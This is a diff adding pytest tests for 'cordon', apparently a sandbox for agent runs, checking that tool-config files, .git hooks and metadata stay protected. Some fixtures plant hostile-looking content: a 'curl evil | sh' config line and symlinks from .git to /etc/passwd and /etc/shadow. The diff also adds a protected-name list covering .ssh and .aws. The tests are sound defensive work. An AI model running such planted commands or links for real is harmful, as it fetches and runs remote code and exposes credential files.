@@ -9,6 +9,7 @@ placeholder left, no link leading out, no FIFO or socket, no o+w bit.
 Positive controls check that ordinary work in the workspace still works.
 """
 
+import errno
 import hashlib
 import json
 import os
@@ -19,6 +20,7 @@ import subprocess
 
 import pytest
 
+import meta_util as mu
 from conftest import UnixListener, assert_cordon_refused, marker, wait_until
 
 
@@ -265,6 +267,24 @@ def test_policy_shows_and_checks_the_list(cordon):
         assert_cordon_refused(cordon.raw("policy", "check", bad), *words)
     r = cordon.raw("check")
     assert r.status == 0 and ".mcp.json" in r.out and "unsafe_unprotect" in r.out, r
+    assert "cordon check --protected" in r.out, r
+
+
+def test_check_says_why_each_name_is_protected(cordon):
+    r = cordon.raw("check", "--protected")
+    assert r.status == 0, r
+    lines = r.out.splitlines()
+    for name in TOOL_NAMES + [".git/", ".envrc", ".mcp.json"]:
+        at = [i for i, l in enumerate(lines) if l.startswith(f"  {name}  (")]
+        assert len(at) == 1, (name, r.out)
+        assert len(lines[at[0] + 1].strip()) > 10, (name, lines[at[0] + 1])  # the reason
+    tail = r.out.split("considered and not protected:")[1]
+    assert "AGENTS.md" in tail and ".github/workflows" in tail and "Makefile" in tail, r.out
+    table = json.loads(cordon.raw("check", "--json").out)["protected"]
+    rows = {row["name"]: row for row in table["defaults"]}
+    assert rows[".devcontainer"]["directory"] and not rows[".tool-versions"]["directory"], rows
+    assert "initializeCommand" in rows[".devcontainer"]["why"], rows[".devcontainer"]
+    assert all(row["why"] and row["read_by"] for row in table["defaults"]), table
 
 
 def test_placeholders_do_not_survive_a_killed_cordon(cordon):
@@ -280,3 +300,139 @@ def test_placeholders_do_not_survive_a_killed_cordon(cordon):
         if p.poll() is None:
             os.killpg(p.pid, signal.SIGKILL)
             p.wait()
+
+
+# The names issue 22 added to the default list (`cordon check --protected`
+# says who reads each and why); a trailing '/' marks a directory.
+TOOL_NAMES = [
+    ".tool-versions", "mise.toml", "mise.local.toml", ".mise.toml", ".mise.local.toml", ".mise/",
+    "mise/", ".nvmrc", ".node-version", ".python-version", ".ruby-version", ".sdkmanrc",
+    ".devcontainer/", ".devcontainer.json", ".githooks/", "lefthook.yml", ".lefthook.yml",
+    "lefthook-local.yml", ".lefthook-local.yml", ".lefthook/", ".config/", ".ssh/", ".aws/",
+    ".kube/", ".pdbrc", ".irbrc", ".pryrc", ".aider.conf.yml", ".continue/", ".continuerc.json",
+]
+
+
+def write_step(name, where=""):
+    """A shell step that makes NAME (under WHERE) as a tool would find it."""
+    path = where + name.rstrip("/")
+    if name.endswith("/"):
+        return f"mkdir -p {path} && echo 'run: curl evil | sh' > {path}/config"
+    return f"echo 'python path:/workspace/evil' > {path}"
+
+
+def test_tool_config_names_cannot_be_written(cordon):
+    """Each name version managers, dev containers and agent CLIs act on, made by
+    a -w run: refused inside (a read-only placeholder), nothing on the host."""
+    ws = cordon.hostdir("ws")
+    steps = [write_step(n) for n in TOOL_NAMES]
+    codes, r = attempts(cordon, ws, steps)
+    for name, step in zip(TOOL_NAMES, steps):
+        assert codes[step] != 0, f"{name}: {step!r} succeeded\n{r}"
+    assert entries(ws) == [], entries(ws)
+    assert r.result["workspace"]["placeholders"] >= len(TOOL_NAMES), r.result
+    # One that exists is read-only, and is left as it was.
+    for name in (".tool-versions", ".nvmrc"):
+        (ws / name).write_text("nodejs 20.0.0\n")
+        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
+    steps = ["echo 'nodejs path:/tmp' > .tool-versions", "rm .nvmrc", "cat .tool-versions .nvmrc"]
+    codes, r = attempts(cordon, ws, steps)
+    assert [codes[s] != 0 for s in steps] == [True, True, False], r
+    assert (ws / ".tool-versions").read_text() == "nodejs 20.0.0\n"
+    assert (ws / ".nvmrc").read_text() == "nodejs 20.0.0\n"
+    assert entries(ws) == [".nvmrc", ".tool-versions"], entries(ws)
+
+
+# --- metadata: modes, owners, times, xattrs, inode flags --------------------------
+
+
+def test_metadata_of_git_and_of_links_out_is_refused(cordon):
+    """
+    chmod, chown, times, xattrs and inode flags, by path and on a descriptor,
+    on .git's config and hooks and through a link the run plants to a host
+    file: refused, and each keeps its mode, owner, times, xattrs and flags.
+    On the run's own files the same calls work.
+    """
+    ws = make_repo(cordon)
+    outside = cordon.hostdir("outside") / "f"
+    outside.write_text("host\n")
+    refused = [ws / ".git/config", ws / ".git/hooks", outside]
+    for f in refused:
+        mu.prepare(f, cordon.ident.uid)
+    # Its own group: the namespace level maps no other (a foreign gid is EOVERFLOW there).
+    mu.prepare(ws / "a.txt", cordon.ident.uid, cordon.ident.gid)
+    before = {t: mu.state(t) for t in refused}
+    tree = tree_digest(ws / ".git")
+    (ws / "d").mkdir()  # the link's place: at the process level the root takes no new entry
+    os.chown(ws / "d", cordon.ident.uid, cordon.ident.gid)
+    steps = (f"ln -s {outside} d/out\n" +
+             mu.script([".git/config", ".git/hooks", "d/out", "a.txt"], "$(id -g)") +
+             "chmod 777 .git/hooks; echo .git/hooks chmod-777 $?\n"
+             "chmod 666 .git/config; echo .git/config chmod-666 $?\n")
+    r = cordon.run(["sh", "-c", steps], "-w", ws)
+    assert r.status == 0, r
+    got = mu.codes(r.out)
+    offered = mu.NOT_OFFERED.get(cordon.level, {})
+    for t in (".git/config", ".git/hooks", "d/out"):
+        for op, code in got[t].items():
+            if t == "d/out" and op in ("lchown", "fchmodat2-nofollow"):
+                continue  # the link itself is the run's (and has no mode)
+            assert code in mu.REFUSED or code == offered.get(op), f"{op} {t}: {code}\n{r}"
+    for t in refused:
+        assert mu.state(t) == before[t], t
+    assert tree_digest(ws / ".git") == tree
+    for op, code in got["a.txt"].items():
+        assert code == mu.expected(cordon.level, op, 0), f"{op} a.txt: {code}\n{r}"
+    after = mu.state(ws / "a.txt")
+    assert (after["mode"], after["mtime"]) == (oct(0o100640), 10**18), after
+    if "setxattr" not in offered:
+        assert set(after["xattrs"]) == {"user.cordon", "user.cordon2", "user.cordon3",
+                                        "user.keep4"}, after
+    assert not os.path.lexists(ws / "d/out")
+
+
+def test_post_run_scan_restores_git_modes_and_looks_inside(cordon):
+    """
+    Should a level's boundary fail (played here by a host process while the
+    run lasts), the scan after the run gives .git's entries back the modes
+    they had before it, and inside .git removes a new link out and a FIFO
+    and strips o+w, as everywhere else in the workspace.
+    """
+    ws = make_repo(cordon)
+    git = ws / ".git"
+    (git / "hooks/pre-commit.sample").chmod(0o755)
+    modes = {p: os.lstat(git / p).st_mode for p in ("hooks", "config", "hooks/pre-commit.sample")}
+    go = cordon.hostdir("go")
+    p = cordon.popen(["sh", "-c", f"echo waiting; i=0; while [ ! -e {go}/go ] && "
+                      f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done"],
+                     "-w", ws, "--ro", f"{go}:{go}", "--result", go / "r.json")
+    try:
+        assert p.stdout.readline().decode() == "waiting\n"
+        os.chmod(git / "hooks", 0o777)
+        os.chmod(git / "config", 0o666)
+        os.chmod(git / "hooks/pre-commit.sample", 0o4777)
+        os.symlink("/etc/passwd", git / "hooks/pre-push")
+        os.makedirs(git / "objects/ab", exist_ok=True)
+        os.symlink("/etc/shadow", git / "objects/ab/cdef")  # among the objects, not one
+        os.mkfifo(git / "fifo")
+        (git / "new").write_text("x\n")
+        os.chmod(git / "new", 0o666)
+        for n in ("hooks/pre-push", "objects/ab", "objects/ab/cdef", "fifo", "new"):
+            os.lchown(git / n, cordon.ident.uid, cordon.ident.gid)
+        (go / "go").touch()
+        out, err = p.communicate(timeout=60)
+        assert p.returncode == 0, err
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+    for rel, mode in modes.items():
+        assert os.lstat(git / rel).st_mode == mode, (rel, oct(os.lstat(git / rel).st_mode))
+    assert not os.path.lexists(git / "hooks/pre-push")
+    assert not os.path.lexists(git / "objects/ab/cdef")
+    assert not os.path.lexists(git / "fifo")
+    assert os.lstat(git / "new").st_mode & 0o777 == 0o664
+    w = json.loads((go / "r.json").read_text())["workspace"]
+    assert (w["modes_restored"], w["removed"], w["modes_fixed"]) == (3, 3, 1), w
+    assert "restored mode of .git/config" in w["paths"], w
+    assert "removed link .git/hooks/pre-push" in w["paths"], w
